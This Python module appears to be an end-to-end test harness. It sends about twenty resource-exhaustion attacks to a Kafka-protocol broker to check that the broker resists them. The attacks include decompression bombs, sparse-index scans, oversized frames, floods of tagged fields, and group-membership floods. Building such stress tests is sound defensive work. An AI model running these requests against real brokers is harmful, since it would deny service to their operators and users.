"""Requests that any client may send and that cost a broker far more than they cost the client.

Each attack goes on for about `seconds` and returns one line about what it did. A broker that closes
the connection has defended itself: that is counted, not reported as a failure.
"""

import asyncio
import struct
import time
from collections.abc import Callable, Coroutine
from functools import partial
from typing import Any, Final, TypeAlias

from e2e.hostile.stranger import (
    DELETE_RECORDS,
    DESCRIBE_CONFIGS,
    DESCRIBE_GROUPS,
    FETCH,
    FIND_COORDINATOR,
    JOIN_GROUP,
    LIST_OFFSETS,
    METADATA,
    OFFSET_COMMIT,
    OFFSET_FETCH,
    OFFSET_FOR_LEADER_EPOCH,
    PRODUCE,
    ZSTD,
    Stranger,
    array,
    batch,
    data,
    record,
    text,
    uvarint,
)

Address: TypeAlias = tuple[str, int]
Attack: TypeAlias = Callable[[Address, float], Coroutine[Any, Any, str]]

MIB: Final = 2**20
HOUR_MS: Final = 3_600_000


def now_ms() -> int:
    return int(time.time() * 1000)


async def list_offsets_by_a_lying_header(address: Address, seconds: float) -> str:
    """Make the broker search compressed batches for a timestamp that they do not contain.

    Each batch decompresses to hundreds of thousands of records, and its header claims a newer
    record than there is. ListOffsets then asks for a time between the two.
    """
    topic, first_ms = "hostile-lying-header", now_ms() - 1000
    count = 4 * MIB // len(record(0))
    lie = batch(record(0) * count, count, first_ms=first_ms, max_ms=first_ms + 60_000, codec=ZSTD)
    async with await Stranger.at(address) as one:
        await one.create_topic(topic)
        for _ in range(3):
            await one.produce(topic, lie)
        wanted = struct.pack(">iiq", 0, -1, first_ms + 30_000)
        body = struct.pack(">ib", -1, 0) + array([text(topic) + array([wanted])])
        asked = await repeat(seconds, lambda: one.ask(LIST_OFFSETS, 5, body))
    return f"3 batches of {len(lie)} bytes, {asked} ListOffsets"


async def list_offsets_past_many_batches(address: Address, seconds: float) -> str:
    """Make ListOffsets walk past thousands of small batches with the time index of no help.

    The first batch is the newest but for the last one, so that the index has no entry between
    them. DeleteRecords removes the first, so that a search by time has to begin behind it.
    """
    topic, newest_ms = "hostile-many-batches", now_ms() - 1000
    first = batch(record(0), 1, first_ms=newest_ms)
    old = batch(record(0), 1, first_ms=newest_ms - HOUR_MS)
    last = batch(record(0), 1, first_ms=newest_ms + 500)
    async with await Stranger.at(address) as one:
        await one.create_topic(topic, index_interval_bytes=str(2**30))
        for some in ([first], *[[old] * 5000] * 20, [last]):
            await one.produce(topic, *some)
        await one.ask(
            DELETE_RECORDS,
            0,
            array([text(topic) + array([struct.pack(">iq", 0, 1)])]) + struct.pack(">i", 10_000),
        )
        asked = 0
        for timestamp in (newest_ms + 1, -3):  # -3: the offset of the newest timestamp
            wanted = struct.pack(">iiq", 0, -1, timestamp)
            tagged = text_compact(topic) + uvarint(2) + wanted + b"\0" + b"\0"
            body = struct.pack(">ib", -1, 0) + uvarint(2) + tagged + b"\0"
            asked += await repeat(seconds / 2, partial(one.ask, LIST_OFFSETS, 7, body, tags=b"\0"))
    return f"100,002 batches, {asked} ListOffsets"


async def fetch_past_many_batches(address: Address, seconds: float) -> str:
    """Fetch from the middle of a log whose `index.interval.bytes` leaves it nearly without index
    entries, so that the broker has to scan batches from the beginning."""
    topic = "hostile-sparse-index"
    small = batch(record(0), 1, first_ms=now_ms())
    async with await Stranger.at(address) as one:
        await one.create_topic(topic, index_interval_bytes=str(2**30))
        for _ in range(20):
            await one.produce(topic, *[small] * 5000)
        body = fetch(topic, [(0, 50_000)], wait_ms=0, max_bytes=100)
        asked = await repeat(seconds, lambda: one.ask(FETCH, 11, body))
    return f"100,000 batches, {asked} Fetches"


async def produce_many_records_to_a_compacted_topic(address: Address, seconds: float) -> str:
    """Send a small Produce that decompresses to millions of records, whose keys the broker has to
    check: a compacted topic accepts only records with a key."""
    topic = "hostile-compacted"
    size = 30 * MIB
    payload = bytearray()
    count = 0
    while len(payload) < size:
        payload += record(count, b"")
        count += 1
    packed = batch(bytes(payload), count, first_ms=now_ms(), codec=ZSTD)
    async with await Stranger.at(address) as one:
        await one.create_topic(topic, cleanup_policy="compact", max_message_bytes=str(32 * MIB))
        asked = await repeat(seconds, lambda: one.produce(topic, packed))
    return f"{asked} Produces of {count} records in {len(packed)} bytes"


async def fetch_that_names_one_partition_often(address: Address, seconds: float) -> str:
    """Let a Fetch that lists the same partition 10,000 times wait while records are appended.

    The broker would look at 10,000 entries again after each append.
    """
    topic = "hostile-named-often"
    small = batch(record(0), 1, first_ms=now_ms())
    async with await Stranger.at(address) as reader, await Stranger.at(address) as writer:
        await writer.create_topic(topic)
        await writer.produce(topic, small)
        body = fetch(topic, [(0, 0)] * 10_000, wait_ms=30_000, min_bytes=2**30)
        reader.send(FETCH, 11, body)
        appended = await repeat(seconds, lambda: writer.produce(topic, small))
    return f"10,000 entries waited through {appended} appends"


async def tagged_fields(address: Address, seconds: float) -> str:
    """Send Metadata requests whose topics carry 255 unknown tagged fields each."""
    fields = b"".join(uvarint(tag) + b"\0" for tag in range(255))
    topic = bytes(16) + b"\0" + uvarint(255) + fields  # topic id, null name, tagged fields
    count = 7 * MIB // len(topic)
    body = uvarint(count + 1) + topic * count + b"\0\0\0"
    closed = asked = 0
    until_s = time.monotonic() + seconds
    while time.monotonic() < until_s:
        async with await Stranger.at(address) as one:
            try:
                await one.ask(METADATA, 12, body, tags=b"\0")
                asked += 1
            except ConnectionError:
                closed += 1
    return f"{len(body)} bytes of tagged fields: {asked} answered, {closed} closed"


async def large_frames(address: Address, seconds: float) -> str:
    """Send Metadata requests of about 20 MB, a size that only Produce requests need."""
    names = [text(f"t{number:0100}") for number in range(190_000)]
    body = array(names) + b"\0"
    closed = asked = 0
    until_s = time.monotonic() + seconds
    while time.monotonic() < until_s:
        async with await Stranger.at(address) as one:
            try:
                await one.ask(METADATA, 4, body)
                asked += 1
            except ConnectionError:
                closed += 1
    return f"Metadata of {len(body)} bytes: {asked} answered, {closed} closed"


def _many(api_key: int, version: int, body: Callable[[int], bytes]) -> Attack:
    """An attack with requests of one API whose arrays have `ELEMENTS` elements each.

    `body` makes the request's body for a given number of elements.
    """

    async def attack(address: Address, seconds: float) -> str:
        async with await Stranger.at(address) as one:
            await one.create_topic("hostile-many", 100)
        asked = closed = 0
        until_s = time.monotonic() + seconds
        full_body = body(ELEMENTS)
        while time.monotonic() < until_s:
            async with await Stranger.at(address) as one:
                try:
                    await one.ask(api_key, version, full_body)
                    asked += 1
                except ConnectionError:
                    closed += 1
        return f"{ELEMENTS} elements: {asked} answered, {closed} closed"

    return attack


ELEMENTS: Final = 39_000
_NAME: Final = "hostile-many"


def _join_body(group_number: int, metadata: bytes) -> bytes:
    """The body of JoinGroup 2 for the group `hostile-<number>`, with 30 minutes' timeouts.

    The member id is empty: version 2 admits a new member at once, without a second request.
    """
    return (
        text(f"hostile-{group_number}")
        + struct.pack(">ii", 1_800_000, 1_800_000)
        + text("")
        + text("consumer")
        + array([text("range") + data(metadata)])
    )


async def join_with_much_metadata(address: Address, seconds: float) -> str:
    """Add members with 1 MiB of metadata to 100 groups of one broker, and drop their
    connections at once.

    The members stay in their groups until the session timeout of 30 minutes.
    """
    joined = 0
    until_s = time.monotonic() + seconds
    while time.monotonic() < until_s:
        async with await Stranger.at(address) as one:
            await one.ask(FIND_COORDINATOR, 0, text("hostile-0"))
            one.send(JOIN_GROUP, 2, _join_body(joined % 100, bytes(MIB)))
            try:
                # Long enough to send the request; the answer comes after a rebalance, if at all.
                async with asyncio.timeout(0.01):
                    await one.receive()
            except (TimeoutError, ConnectionError):
                pass
            joined += 1
    return f"{joined} members of a megabyte in 100 groups"


async def join_for_many_ids(address: Address, seconds: float) -> str:
    """Have the broker give out member ids that no member will ever join with.

    JoinGroup 5 answers a request without member id with a new id. The id begins with the client id,
    which is 32,000 bytes long here.
    """
    asked = 0
    client = "x" * 32_000
    body = (
        text("hostile-ids")
        + struct.pack(">ii", 1_800_000, 1_800_000)
        + text("")
        + struct.pack(">h", -1)
        + text("consumer")
        + array([text("range") + data(b"")])
    )
    frame = struct.pack(">hhi", JOIN_GROUP, 5, 7) + text(client) + body
    async with await Stranger.at(address) as one:

        async def ask() -> None:
            one.send_raw(frame)
            await one.receive()

        asked = await repeat(seconds, ask)
    return f"{asked} ids of {len(client)} bytes"


async def commit_for_many_groups(address: Address, seconds: float) -> str:
    """Commit an offset for a new group with each request; no group is ever used again."""
    groups = 0
    async with await Stranger.at(address) as one:
        await one.create_topic(_NAME, 100)

        async def commit() -> None:
            nonlocal groups
            groups += 1
            partition = struct.pack(">iqih", 0, 1, -1, -1)
            await one.ask(
                OFFSET_COMMIT,
                6,
                text(f"hostile-{time.time_ns()}-{groups}")
                + struct.pack(">i", -1)
                + text("")
                + array([text(_NAME) + array([partition])]),
            )

        await repeat(seconds, commit)
    return f"{groups} groups"


async def repeat(seconds: float, ask: Callable[[], Coroutine[Any, Any, object]]) -> int:
    """Await `ask()` again and again for a duration, at least once; returns the number of calls."""
    until_s, times = time.monotonic() + seconds, 0
    while True:
        await ask()
        times += 1
        if time.monotonic() >= until_s:
            return times


def fetch(
    topic: str,
    wanted: list[tuple[int, int]],
    *,
    wait_ms: int,
    min_bytes: int = 1,
    max_bytes: int = MIB,
) -> bytes:
    """The body of Fetch 11 without a fetch session; `wanted` holds (partition, offset) pairs."""
    parts = [struct.pack(">iiqqi", index, -1, offset, -1, max_bytes) for index, offset in wanted]
    limits = struct.pack(">iiiibii", -1, wait_ms, min_bytes, max_bytes, 0, 0, -1)
    return limits + array([text(topic) + array(parts)]) + array([]) + text("")


def text_compact(value: str) -> bytes:
    """A string as flexible versions write it: its length plus one, then its bytes."""
    encoded = value.encode()
    return uvarint(len(encoded) + 1) + encoded


def _partitions(layout: str, *values: int) -> Callable[[int], bytes]:
    """A function that makes an array of one topic with `count` times the same partition entry.

    `layout` and `values` are the entry as `struct.pack` takes it.
    """
    entry = struct.pack(layout, *values)
    return lambda count: array([text(_NAME) + array([entry] * count)])


def _many_in_list_offsets(count: int) -> bytes:
    """The body of ListOffsets 5 for partitions 0 to `count` - 1 of one topic."""
    entries = [struct.pack(">iiq", partition, -1, 0) for partition in range(count)]
    return struct.pack(">ib", -1, 0) + array([text(_NAME) + array(entries)])


def _many_in_offset_commit(count: int) -> bytes:
    """The body of OffsetCommit 6 with `count` entries, outside any generation of the group."""
    group = text("hostile") + struct.pack(">i", -1) + text("")  # name, generation, member id
    return group + _partitions(">iqih", 0, 1, -1, -1)(count)


def _many_in_describe_configs(count: int) -> bytes:
    """The body of DescribeConfigs 3 that names the same topic `count` times."""
    topic = b"\2" + text(_NAME) + struct.pack(">i", -1)  # 2: a topic; -1: all its configs
    return array([topic] * count) + b"\0\0"


ATTACKS: Final[dict[str, Attack]] = {
    "list_offsets_by_a_lying_header": list_offsets_by_a_lying_header,
    "list_offsets_past_many_batches": list_offsets_past_many_batches,
    "fetch_past_many_batches": fetch_past_many_batches,
    "produce_many_records_to_a_compacted_topic": produce_many_records_to_a_compacted_topic,
    "fetch_that_names_one_partition_often": fetch_that_names_one_partition_often,
    "tagged_fields": tagged_fields,
    "large_frames": large_frames,
    "join_with_much_metadata": join_with_much_metadata,
    "join_for_many_ids": join_for_many_ids,
    "commit_for_many_groups": commit_for_many_groups,
    "many_in_metadata": _many(METADATA, 4, lambda count: array([text("t")] * count) + b"\0"),
    "many_in_fetch": _many(
        FETCH, 11, lambda count: fetch(_NAME, [(n, 0) for n in range(count)], wait_ms=0)
    ),
    "many_in_produce": _many(
        PRODUCE, 8, lambda n: struct.pack(">hhi", -1, 1, 1) + _partitions(">ii", 0, 0)(n)
    ),
    "many_in_list_offsets": _many(
        LIST_OFFSETS,
        5,
        _many_in_list_offsets,
    ),
    "many_in_offset_fetch": _many(
        OFFSET_FETCH, 5, lambda n: text("hostile") + _partitions(">i", 0)(n)
    ),
    "many_in_offset_commit": _many(
        OFFSET_COMMIT,
        6,
        _many_in_offset_commit,
    ),
    "many_in_delete_records": _many(
        DELETE_RECORDS, 0, lambda n: _partitions(">iq", 0, 0)(n) + struct.pack(">i", 1000)
    ),
    "many_in_epochs": _many(
        OFFSET_FOR_LEADER_EPOCH,
        3,
        lambda n: struct.pack(">i", -1) + _partitions(">iii", 0, -1, 0)(n),
    ),
    "many_in_describe_groups": _many(DESCRIBE_GROUPS, 3, lambda n: array([text("g")] * n) + b"\0"),
    "many_in_describe_configs": _many(
        DESCRIBE_CONFIGS,
        3,
        _many_in_describe_configs,
    ),
}
